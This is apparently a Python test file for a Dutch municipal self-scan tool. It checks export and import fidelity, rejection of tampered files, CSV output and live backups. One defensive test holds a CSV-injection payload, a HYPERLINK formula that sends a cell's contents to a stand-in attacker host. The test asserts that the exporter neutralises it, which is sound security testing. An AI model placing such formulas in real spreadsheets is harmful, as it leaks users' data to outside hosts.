"""Export, import and backup: full fidelity, all or nothing, and consistent while in use."""

from __future__ import annotations

import copy
import csv
import io
import json
import sqlite3
import threading
from datetime import date

import pytest
from click.testing import CliRunner

from tests.store_fixtures import DATA, maak, mini, tijdelijke_db
from zelfscan import opslag
from zelfscan.cli import main
from zelfscan.errors import DatabaseFout, ImportFout, NietGevonden, VerouderdAntwoord
from zelfscan.inlezen.model import NIET_VAN_TOEPASSING, WEET_NIET
from zelfscan.opslag import uitwisseling
from zelfscan.opslag.verbinding import open_db
from zelfscan.scores.voortgang import voortgang_uit_tellingen


@pytest.fixture
def mini_catalogus():
    return mini()


@pytest.fixture
def db(tmp_path):
    yield from tijdelijke_db(tmp_path)


@pytest.fixture
def meting(db, mini_catalogus):
    return maak(db, mini_catalogus)


@pytest.fixture
def gevuld(db, mini_catalogus):
    """A 0-meting with every kind of record, afgerond after a heropen, and its vervolgmeting."""
    m = maak(db, mini_catalogus)
    s = opslag.sla_antwoord
    s(db, m.id, "GM9001", "visie-1", 3, toelichting='Vastgelegd; "geborgd"\nsinds 2020', wie="fien")
    s(db, m.id, "GM9002", "visie-1", WEET_NIET, bespreekpunt=True, wie="fien")
    s(db, m.id, "GM9001", "visie-2", NIET_VAN_TOEPASSING, wie="fien")
    s(db, m.id, "GM9002", "visie-2", 1, wie="fien")
    s(db, m.id, "GM9002", "visie-2", None, wie="joost")  # cleared, with history
    s(db, m.id, "GM9001", "meldcode-1", 0, toelichting="Coördinatie ontbreekt – ë", wie="fien")
    opslag.sla_notitie(db, m.id, "meldcode", "Veel herkenning; actie voor Bëekhuizen.", wie="fien")
    opslag.sla_notitie(db, m.id, "visie", "Kort.", wie="fien")
    opslag.sla_notitie(db, m.id, "visie", "Alleen Aardam: nota in maart.", cbs="GM9001", wie="fien")
    opslag.voeg_deelnemer_toe(
        db, m.id, organisatie="Gemeente Aardam", rol="Beleidsadviseur", cbs="GM9001", wie="fien"
    )
    opslag.voeg_deelnemer_toe(
        db, m.id, organisatie="Veilig Thuis", rol="Adviseur", naam="Sanne", wie="fien"
    )
    opslag.zet_huidig_thema(db, m.id, "meldcode")
    opslag.rond_af(db, m.id, wie="fien")
    opslag.heropen(db, m.id, wie="fien", reden="Nog een toelichting")
    opslag.rond_af(db, m.id, wie="fien")
    opslag.sla_ambitie(db, m.id, "GM9002", "visie", 2, "Visie vastleggen.", wie="bëekhuizen")
    opslag.sla_ambitie(
        db, m.id, "GM9001", "meldcode", 1, door="team Veiligheid", wanneer="Q2 2023", wie="fien"
    )
    vervolg = maak(
        db,
        mini_catalogus,
        soort="vervolgmeting",
        jaar=2022,
        datum=date(2022, 10, 11),
        vorige_meting_id=m.id,
        periode="najaar 2022",
    )
    opslag.neem_antwoorden_over(db, vervolg.id, wie="fien")
    s(db, vervolg.id, "GM9002", "visie-1", 2, wie="fien")
    return m, vervolg


REGIOS = mini().regios
# `zelfscan import` reads the region data of the data folder: the test region's, here.
MINI_DATA = {"ZELFSCAN_VRAGENLIJSTEN": str(DATA)}


def aantal_metingen(db) -> int:
    return db.execute("SELECT count(*) FROM metingen").fetchone()[0]


# --- JSON -----------------------------------------------------------------------------------


def test_export_import_export_is_byte_identical(db, gevuld, tmp_path):
    eerste = uitwisseling.json_tekst(uitwisseling.exporteer_json(db))
    doel = open_db(tmp_path / "elders.db")
    maak(doel, mini())  # the other database already has a meting of its own
    nieuw = uitwisseling.importeer_json(doel, json.loads(eerste), regios=REGIOS)
    assert [m.titel for m in nieuw] == ["0-meting 2021 Noord", "Vervolgmeting 2022 Noord"]
    assert nieuw[1].vorige_meting_id == nieuw[0].id  # linked again, by uuid
    uuids = [m.uuid for m in nieuw]
    tweede = uitwisseling.json_tekst(uitwisseling.exporteer_json(doel, [m.id for m in nieuw]))
    assert tweede == eerste
    assert uuids == [m["uuid"] for m in json.loads(eerste)["metingen"]]
    doel.conn.close()


def test_the_export_is_complete_and_holds_no_local_ids(db, gevuld):
    m, vervolg = gevuld
    data = uitwisseling.exporteer_json(db, [vervolg.id, m.id])
    assert (data["formaat"], data["formaatversie"]) == ("zelfscan-export", 3)
    eerste, tweede = data["metingen"]  # in list order, whatever order was asked
    assert eerste["uuid"] == m.uuid and tweede["vorige_meting"] == m.uuid
    assert "id" not in eerste and "vorige_meting_id" not in tweede
    assert eerste["vragenlijst"]["inhoud"]["id"] == "mini-scan"
    assert eerste["vragenlijst"]["hash"] == m.vragenlijst_hash
    assert eerste["gemeenten"] == [
        {"cbs": "GM9001", "naam": "Aardam"},
        {"cbs": "GM9002", "naam": "Bëekhuizen"},
    ]
    assert len(eerste["antwoorden"]) == 5
    leeg = next(
        a for a in eerste["antwoorden"] if a["vraag_id"] == "visie-2" and a["cbs"] == "GM9002"
    )
    assert (leeg["waarde"], leeg["versie"], leeg["gewijzigd_door"]) == (None, 2, "joost")
    # Per thema the note for all first, then each gemeente's own.
    assert [(n["thema_id"], n["cbs"]) for n in eerste["notities"]] == [
        ("visie", None),
        ("visie", "GM9001"),
        ("meldcode", None),
    ]
    assert eerste["deelnemers"][1] == {
        "organisatie": "Veilig Thuis",
        "rol": "Adviseur",
        "naam": "Sanne",
        "cbs": None,
    }
    assert [(a["cbs"], a["niveau"], a["wie"], a["wanneer"]) for a in eerste["ambities"]] == [
        ("GM9001", 1, "team Veiligheid", "2023-Q2"),
        ("GM9002", 2, None, None),
    ]
    assert [r["actie"] for r in eerste["logboek"]] == [
        "aangemaakt",
        "deelnemer toegevoegd",
        "deelnemer toegevoegd",
        "afgerond",
        "heropend",
        "afgerond",
    ]
    assert any(a["overgenomen"] for a in tweede["antwoorden"])
    with pytest.raises(NietGevonden, match="Meting 99 bestaat niet"):
        uitwisseling.exporteer_json(db, [99])


def als_versie_1(data: dict) -> dict:
    """An export as formaatversie 1 wrote it: notes only for all, ambities without wie and
    wanneer, no votes (the fields a version-1 file does not have)."""
    oud = json.loads(json.dumps(data))
    oud["formaatversie"] = 1
    for m in oud["metingen"]:
        del m["deelname"]
        m["notities"] = [
            {k: w for k, w in n.items() if k != "cbs"} for n in m["notities"] if n["cbs"] is None
        ]
        for a in m["ambities"]:
            del a["wie"], a["wanneer"]
    return oud


def test_an_export_of_format_version_1_still_imports(db, gevuld, tmp_path):
    nu = uitwisseling.exporteer_json(db)
    oud = als_versie_1(nu)
    doel = open_db(tmp_path / "elders.db")
    nieuw = uitwisseling.importeer_json(doel, uitwisseling.json_tekst(oud).encode(), regios=REGIOS)
    m = nieuw[0]
    # Every note for all (version 1 knew no other); ambities keep level and text, no wie/wanneer.
    assert {k: n.tekst for k, n in opslag.notities(doel, m.id).items()} == {
        ("visie", None): "Kort.",
        ("meldcode", None): "Veel herkenning; actie voor Bëekhuizen.",
    }
    assert {
        k: (a.niveau, a.tekst, a.wie, a.wanneer) for k, a in opslag.ambities(doel, m.id).items()
    } == {
        ("GM9002", "visie"): (2, "Visie vastleggen.", None, None),
        ("GM9001", "meldcode"): (1, "", None, None),
    }
    # And it exports in today's form, with everything else as it was.
    terug = uitwisseling.exporteer_json(doel)
    assert terug["formaatversie"] == uitwisseling.FORMAATVERSIE
    assert [n["cbs"] for n in terug["metingen"][0]["notities"]] == [None, None]
    assert terug["metingen"][0]["antwoorden"] == nu["metingen"][0]["antwoorden"]
    # A version-1 file with a field of version 2 is not a version-1 file.
    oud["metingen"][0]["notities"][0]["cbs"] = None
    with pytest.raises(ImportFout, match="onbekend veld 'cbs'"):
        uitwisseling.importeer_json(open_db(tmp_path / "nog.db"), oud, regios=REGIOS)
    doel.conn.close()


def test_a_vervolgmeting_imported_without_its_0_meting_keeps_the_link(db, gevuld, tmp_path):
    _, vervolg = gevuld
    eerste = uitwisseling.exporteer_json(db, [vervolg.id])
    doel = open_db(tmp_path / "elders.db")
    [nieuw] = uitwisseling.importeer_json(doel, eerste, regios=REGIOS)
    assert nieuw.vorige_meting_id is None and nieuw.vorige_meting_uuid == vervolg.vorige_meting_uuid
    assert uitwisseling.exporteer_json(doel) == eerste
    # When the 0-meting arrives later, the link resolves.
    uitwisseling.importeer_json(
        doel, uitwisseling.exporteer_json(db, [vervolg.vorige_meting_id]), regios=REGIOS
    )
    assert opslag.meting(doel, nieuw.id).vorige_meting_id is not None
    doel.conn.close()


def test_an_imported_meting_behaves_like_the_original(db, gevuld, tmp_path):
    m, _ = gevuld
    doel = open_db(tmp_path / "elders.db")
    [kopie] = uitwisseling.importeer_json(
        doel, uitwisseling.exporteer_json(db, [m.id]), regios=REGIOS
    )
    assert kopie.afgerond and kopie.vragenlijst == m.vragenlijst
    assert opslag.antwoorden(doel, kopie.id) == opslag.antwoorden(db, m.id)
    opslag.heropen(doel, kopie.id, wie="fien", reden="Na import")
    # The optimistic check keeps working on imported rows.
    with pytest.raises(VerouderdAntwoord):
        opslag.sla_antwoord(doel, kopie.id, "GM9001", "visie-1", 1, verwachte_versie=0, wie="fien")
    doel.conn.close()


def test_imported_afgeronde_metingen_show_the_same_progress_as_the_source(
    db, gevuld, mini_catalogus, tmp_path
):
    """The counts an afgeronde meting keeps are derived, not exported: the import counts them
    once, and the overview shows what it shows in the source database."""
    _, vervolg = gevuld
    opslag.rond_af(db, vervolg.id, wie="fien")  # pre-filled, one answer confirmed by changing it
    heel = maak(db, mini_catalogus, jaar=2020, datum=date(2020, 10, 12))
    for vraag in heel.vragenlijst.vragen:
        opslag.sla_antwoord_voor_alle(db, heel.id, vraag.id, 2, wie="fien")
    opslag.rond_af(db, heel.id, wie="fien")
    open_ = maak(db, mini_catalogus, jaar=2023, datum=date(2023, 10, 12))
    opslag.sla_antwoord(db, open_.id, "GM9001", "visie-1", 1, wie="fien")
    export = uitwisseling.exporteer_json(db)
    assert all("tellingen" not in meting for meting in export["metingen"])

    def voortgang(verbinding) -> dict:
        metingen = opslag.metingen(verbinding)
        tellingen = opslag.antwoord_tellingen(verbinding, metingen)
        return {
            meting.uuid: voortgang_uit_tellingen(
                meting.vragenlijst,
                len(meting.gemeenten),
                tellingen[meting.id].beantwoord,
                tellingen[meting.id].onbevestigd,
                tellingen[meting.id].per_vraag,
            )
            for meting in metingen
        }

    doel = open_db(tmp_path / "elders.db")
    nieuw = uitwisseling.importeer_json(doel, export, regios=REGIOS)
    opgeslagen = dict(doel.execute("SELECT uuid, tellingen IS NOT NULL FROM metingen").fetchall())
    assert opgeslagen == {n.uuid: n.afgerond for n in nieuw}
    assert sum(opgeslagen.values()) == 3
    assert voortgang(doel) == voortgang(db)
    assert opslag.antwoord_tellingen(doel, nieuw) == opslag.tel_antwoorden(
        doel, {n.id: opslag.aantal_cellen(n) for n in nieuw}
    )
    doel.conn.close()


def test_import_refuses_a_meting_that_is_already_there_and_imports_nothing(db, gevuld, tmp_path):
    m, _ = gevuld
    data = uitwisseling.exporteer_json(db)
    with pytest.raises(ImportFout) as fout:
        uitwisseling.importeer_json(db, data, regios=REGIOS)
    assert str(fout.value) == (
        f"Meting “0-meting 2021 Noord” bestaat al in deze database (uuid "
        f"{m.uuid}); niets geïmporteerd."
    )
    # One new and one duplicate: still nothing at all.
    doel = open_db(tmp_path / "elders.db")
    uitwisseling.importeer_json(
        doel, uitwisseling.exporteer_json(db, [gevuld[1].id]), regios=REGIOS
    )
    with pytest.raises(ImportFout, match="Vervolgmeting 2022 Noord” bestaat al"):
        uitwisseling.importeer_json(doel, data, regios=REGIOS)
    assert aantal_metingen(doel) == 1
    assert doel.execute("SELECT count(*) FROM logboek").fetchone()[0] == len(
        data["metingen"][1]["logboek"]
    )
    doel.conn.close()


def _verknoei(data: dict, functie) -> dict:
    kopie = copy.deepcopy(data)
    functie(kopie)
    return kopie


def _zet(pad, waarde):
    def functie(data):
        doel = data
        for stap in pad[:-1]:
            doel = doel[stap]
        doel[pad[-1]] = waarde

    return functie


def _verwijder(pad):
    def functie(data):
        doel = data
        for stap in pad[:-1]:
            doel = doel[stap]
        del doel[pad[-1]]

    return functie


@pytest.mark.parametrize(
    ("functie", "melding"),
    [
        (_zet(["formaat"], "iets-anders"), "is geen zelfscan-export"),
        (
            _zet(["formaatversie"], 4),
            "heeft formaatversie 4; deze versie van zelfscan leest "
            "formaatversie 1, 2 en 3. Werk zelfscan bij",
        ),
        (
            _verwijder(["metingen", 0, "uuid"]),
            "meting 1 (“0-meting 2021 Noord”): het veld 'uuid' ontbreekt",
        ),
        (
            _zet(["metingen", 1, "jaar"], "2022"),
            "meting 2 (“Vervolgmeting 2022 Noord”), veld 'jaar': moet een geheel getal zijn",
        ),
        (
            _zet(["metingen", 0, "soort"], "nulmeting"),
            "'nulmeting' is ongeldig; kies uit '0-meting', 'vervolgmeting'",
        ),
        (_zet(["metingen", 0, "extra"], 1), "onbekend veld 'extra'"),
        (
            _verwijder(["metingen", 0, "antwoorden", 2, "versie"]),
            "antwoorden nr. 3: het veld 'versie' ontbreekt",
        ),
        (
            _zet(["metingen", 0, "vragenlijst", "inhoud", "titel"], "Stiekem gewijzigd"),
            "klopt niet met haar controlegetal (hash)",
        ),
        (
            _zet(["metingen", 0, "antwoorden", 0, "waarde"], 9),
            "antwoord nr. 1: '9' is geen antwoord",
        ),
        (_zet(["metingen", 0, "antwoorden", 0, "cbs"], "GM9004"), "gemeente GM9004 doet niet mee"),
        (
            _zet(["metingen", 0, "antwoorden", 0, "vraag_id"], "onbekend"),
            "'onbekend' staat niet in de vragenlijst",
        ),
        (_zet(["metingen", 0, "ambities", 0, "niveau"], 7), "niveau 7 bestaat niet"),
        (_zet(["metingen", 0, "notities", 0, "thema_id"], "meldcode"), "heeft al een notitie"),
        (
            _zet(["metingen", 0, "notities", 1, "cbs"], "GM0363"),
            "notitie nr. 2: gemeente GM0363 doet niet mee",
        ),
        (
            _zet(["metingen", 0, "notities", 0, "cbs"], "GM9001"),
            "notitie nr. 2: dit thema heeft al een notitie voor gemeente GM9001",
        ),
        (
            _zet(["metingen", 0, "ambities", 0, "wanneer"], "volgend voorjaar"),
            "‘volgend voorjaar’ is geen datum of kwartaal",
        ),
        (
            _zet(["metingen", 0, "ambities", 0, "wie"], "x" * 121),
            "Wie de ambitie oppakt is te lang (121 tekens; hoogstens 120)",
        ),
        (
            _verwijder(["metingen", 0, "ambities", 0, "wanneer"]),
            "ambities nr. 1: het veld 'wanneer' ontbreekt",
        ),
        (_zet(["metingen", 1, "uuid"], None), "moet tekst zijn"),
    ],
)
def test_import_refuses_broken_or_tampered_exports_and_imports_nothing(
    db, gevuld, tmp_path, functie, melding
):

    data = _verknoei(uitwisseling.exporteer_json(db), functie)
    doel = open_db(tmp_path / "elders.db")
    with pytest.raises(ImportFout) as fout:
        uitwisseling.importeer_json(doel, data, regios=REGIOS)
    assert melding in str(fout.value)
    assert "niets geïmporteerd" in str(fout.value).lower()
    assert aantal_metingen(doel) == 0
    doel.conn.close()


def test_import_refuses_files_that_are_not_json(db, gevuld, tmp_path):
    tekst = uitwisseling.json_tekst(uitwisseling.exporteer_json(db))
    afgebroken = tmp_path / "afgebroken.json"
    afgebroken.write_text(tekst[: len(tekst) // 2], encoding="utf-8")
    binair = tmp_path / "foto.json"
    binair.write_bytes(b"\x89PNG\r\n\x1a\n\xff\xfe")
    doel = open_db(tmp_path / "elders.db")
    with pytest.raises(ImportFout, match=r"afgebroken.json is geen geldig JSON-bestand \(regel"):
        uitwisseling.importeer_json(doel, afgebroken, regios=REGIOS)
    with pytest.raises(ImportFout, match="geen tekstbestand in UTF-8"):
        uitwisseling.importeer_json(doel, binair, regios=REGIOS)
    with pytest.raises(ImportFout, match="bestaat niet"):
        uitwisseling.importeer_json(doel, tmp_path / "weg.json", regios=REGIOS)
    with pytest.raises(ImportFout, match="is geen zelfscan-export"):
        uitwisseling.importeer_json(doel, b"[1, 2, 3]", regios=REGIOS)
    assert aantal_metingen(doel) == 0
    doel.conn.close()


def test_a_written_export_file_reads_back(db, gevuld, tmp_path):
    pad = uitwisseling.schrijf_json(db, tmp_path / "uit" / "export.json")
    assert pad.read_text(encoding="utf-8") == uitwisseling.json_tekst(
        uitwisseling.exporteer_json(db)
    )
    doel = open_db(tmp_path / "elders.db")
    assert len(uitwisseling.importeer_json(doel, pad, regios=REGIOS)) == 2
    doel.conn.close()


# --- CSV ------------------------------------------------------------------------------------


def test_csv_has_one_row_per_answer_for_dutch_excel(db, gevuld, tmp_path):
    m, vervolg = gevuld
    pad = uitwisseling.exporteer_csv(db, [m.id], tmp_path / "antwoorden.csv")
    ruw = pad.read_bytes()
    assert ruw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM
    rijen = list(csv.DictReader(io.StringIO(ruw.decode("utf-8-sig")), delimiter=";"))
    assert (
        list(rijen[0])
        == list(uitwisseling.CSV_KOLOMMEN)
        == [
            "meting",
            "jaar",
            "soort",
            "regio",
            "subregio",
            "gemeente",
            "cbs",
            "onderdeel",
            "thema",
            "vraag_id",
            "vraag",
            "antwoord",
            "waarde",
            "toelichting",
            "bespreekpunt",
            "gewijzigd_op",
        ]
    )
    # Five stored answers, one of them cleared without toelichting: four rows.
    assert len(rijen) == 4
    eerste = rijen[0]
    assert eerste == {
        "meting": "0-meting 2021 Noord",
        "jaar": "2021",
        "soort": "0-meting",
        "regio": "Testregio",
        "subregio": "Noord",
        "gemeente": "Aardam",
        "cbs": "GM9001",
        "onderdeel": "De gemeentelijke organisatie",
        "thema": "Visie en opdrachtgeverschap",
        "vraag_id": "visie-1",
        "vraag": "De gemeente heeft een uitgewerkte visie op de rol van het wijkteam.",
        "antwoord": "Ja, geborgd",
        "waarde": "3",
        "toelichting": 'Vastgelegd; "geborgd"\nsinds 2020',
        "bespreekpunt": "nee",
        "gewijzigd_op": eerste["gewijzigd_op"],
    }
    per_cel = {(r["cbs"], r["vraag_id"]): r for r in rijen}
    assert (
        per_cel[("GM9002", "visie-1")]["antwoord"],
        per_cel[("GM9002", "visie-1")]["waarde"],
        per_cel[("GM9002", "visie-1")]["bespreekpunt"],
    ) == ("Weet niet", "weet_niet", "ja")
    assert per_cel[("GM9001", "visie-2")]["antwoord"] == "N.v.t."
    assert per_cel[("GM9001", "meldcode-1")]["toelichting"] == "Coördinatie ontbreekt – ë"
    assert (
        per_cel[("GM9001", "meldcode-1")]["onderdeel"] == "Professionals in de lokale (wijk)teams"
    )
    assert ("GM9002", "visie-2") not in per_cel
    alles = list(
        csv.reader(io.StringIO(uitwisseling.csv_bytes(db).decode("utf-8-sig")), delimiter=";")
    )
    aantal_vervolg = sum(a.waarde is not None for a in opslag.antwoorden(db, vervolg.id).values())
    assert len(alles) == 1 + 4 + aantal_vervolg


# --- backup ---------------------------------------------------------------------------------


def test_backup_is_a_consistent_copy_while_another_connection_writes(tmp_path, mini_catalogus):
    pad = tmp_path / "live.db"
    db = open_db(pad)
    m = maak(db, mini_catalogus)
    opslag.sla_antwoord(db, m.id, "GM9001", "visie-1", 2, wie="fien")
    stop = threading.Event()
    geschreven = []

    def schrijver():
        eigen = open_db(pad)
        n = 0
        while not stop.is_set():
            n += 1
            opslag.sla_notitie(eigen, m.id, "visie", f"versie {n}", wie="schrijver")
            geschreven.append(n)
        eigen.conn.close()

    draad = threading.Thread(target=schrijver)
    draad.start()
    try:
        while len(geschreven) < 5:
            pass
        kopieen = [uitwisseling.maak_backup(pad, tmp_path / f"backup-{i}.db") for i in range(3)]
    finally:
        stop.set()
        draad.join()
    vorige = 0
    for kopie in kopieen:
        ruw = sqlite3.connect(kopie)
        assert ruw.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        assert ruw.execute("PRAGMA journal_mode").fetchone()[0] == "delete"  # one file
        ruw.close()
        terug = open_db(kopie)
        assert opslag.antwoord(terug, m.id, "GM9001", "visie-1").waarde == 2
        notitie = opslag.notities(terug, m.id)[("visie", None)]
        # Consistent: text and version were committed together.
        assert notitie.tekst == f"versie {notitie.versie}" and notitie.versie >= max(vorige, 5)
        vorige = notitie.versie
        terug.conn.close()
    db.conn.close()


def test_backup_never_overwrites_and_can_go_into_a_folder(db, meting, tmp_path):
    pad = tmp_path / "zelfscan.db"
    map_ = tmp_path / "backups"
    map_.mkdir()
    gemaakt = uitwisseling.maak_backup(pad, map_)
    assert gemaakt.parent == map_ and gemaakt.name.startswith("zelfscan-backup-")
    with pytest.raises(DatabaseFout, match="bestaat al; een back-up overschrijft nooit"):
        uitwisseling.maak_backup(pad, gemaakt)
    with pytest.raises(DatabaseFout, match="bestaat niet; er is niets om te back-uppen"):
        uitwisseling.maak_backup(tmp_path / "weg.db", tmp_path / "x.db")
    assert [p.name for p in map_.iterdir()] == [gemaakt.name]  # no temporary files left


# --- the commands ---------------------------------------------------------------------------


def test_cli_export_import_backup_round_trip(db, gevuld, tmp_path):
    bron = str(tmp_path / "zelfscan.db")
    runner = CliRunner()
    uit = tmp_path / "export.json"
    resultaat = runner.invoke(main, ["export", "--db", bron, "--out", str(uit)])
    assert resultaat.exit_code == 0, resultaat.output
    assert "2 metingen geëxporteerd" in resultaat.output

    elders = str(tmp_path / "elders.db")
    resultaat = runner.invoke(main, ["import", "--db", elders, str(uit)], env=MINI_DATA)
    assert resultaat.exit_code == 0 and "2 metingen geïmporteerd" in resultaat.output
    opnieuw = runner.invoke(main, ["import", "--db", elders, str(uit)], env=MINI_DATA)
    assert opnieuw.exit_code == 1
    assert "Fout: Meting “0-meting 2021 Noord” bestaat al" in opnieuw.output
    assert "Traceback" not in opnieuw.output

    terug = runner.invoke(main, ["export", "--db", elders])
    assert terug.exit_code == 0 and terug.stdout_bytes == uit.read_bytes()

    meting_id = str(gevuld[0].id)
    csv_uit = runner.invoke(
        main, ["export", "--db", bron, "--meting", meting_id, "--format", "csv"]
    )
    assert csv_uit.stdout_bytes.startswith(b"\xef\xbb\xbfmeting;jaar;soort")
    per_uuid = runner.invoke(main, ["export", "--db", bron, "--meting", gevuld[0].uuid])
    assert json.loads(per_uuid.stdout_bytes)["metingen"][0]["uuid"] == gevuld[0].uuid
    onbekend = runner.invoke(main, ["export", "--db", bron, "--meting", "77"])
    assert onbekend.exit_code == 1 and "Meting 77 bestaat niet" in onbekend.output

    backup = runner.invoke(main, ["backup", "--db", bron, str(tmp_path / "kopie.db")])
    assert backup.exit_code == 0 and "Back-up gemaakt" in backup.output
    lijst = runner.invoke(main, ["metingen", "--db", str(tmp_path / "kopie.db")])
    assert "0-meting 2021 Noord" in lijst.output and "Vervolgmeting 2022 Noord" in lijst.output


def test_commands_that_read_do_not_create_a_database_by_a_typo(tmp_path):
    runner = CliRunner()
    for opdracht in (["export"], ["metingen"], ["backup", str(tmp_path / "b.db")]):
        resultaat = runner.invoke(main, [*opdracht, "--db", str(tmp_path / "tikfout.db")])
        assert resultaat.exit_code == 1, opdracht
        assert "tikfout.db bestaat niet" in resultaat.output
    assert not (tmp_path / "tikfout.db").exists()


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_text(db, meting, tmp_path):
    """OWASP CSV injection: =, +, -, @, tab and carriage return at the start of a cell make
    Excel run it; such cells get a leading apostrophe, NUL bytes are dropped (issue 18)."""
    vijandig = {
        "visie-1": '=HYPERLINK("https://evil.example/?"&A1;"klik")',
        "visie-2": "+31 6 1234",
        "meldcode-1": "-2+3",
    }
    for vraag, tekst in vijandig.items():
        opslag.sla_antwoord(db, meting.id, "GM9001", vraag, 1, toelichting=tekst, wie="fien")
    opslag.sla_antwoord(db, meting.id, "GM9002", "visie-1", 1, toelichting="@SUM(1)", wie="f")
    opslag.sla_antwoord(db, meting.id, "GM9002", "meldcode-1", 1, toelichting="a\x00b", wie="f")
    pad = uitwisseling.exporteer_csv(db, [meting.id], tmp_path / "antwoorden.csv")
    rijen = list(csv.DictReader(io.StringIO(pad.read_bytes().decode("utf-8-sig")), delimiter=";"))
    toelichtingen = {(r["cbs"], r["vraag_id"]): r["toelichting"] for r in rijen}
    for vraag, tekst in vijandig.items():
        assert toelichtingen[("GM9001", vraag)] == "'" + tekst
    assert toelichtingen[("GM9002", "visie-1")] == "'@SUM(1)"
    assert toelichtingen[("GM9002", "meldcode-1")] == "ab"
    for rij in rijen:
        for waarde in rij.values():
            assert not waarde.startswith(("=", "+", "-", "@", "\t", "\r")), rij
    # The store strips a text's leading whitespace; the cell rule covers tab and CR anyway.
    assert uitwisseling.veilige_cel("\tx") == "'\tx"
    assert uitwisseling.veilige_cel("\r=1") == "'\r=1"
    assert uitwisseling.veilige_cel(-3) == -3
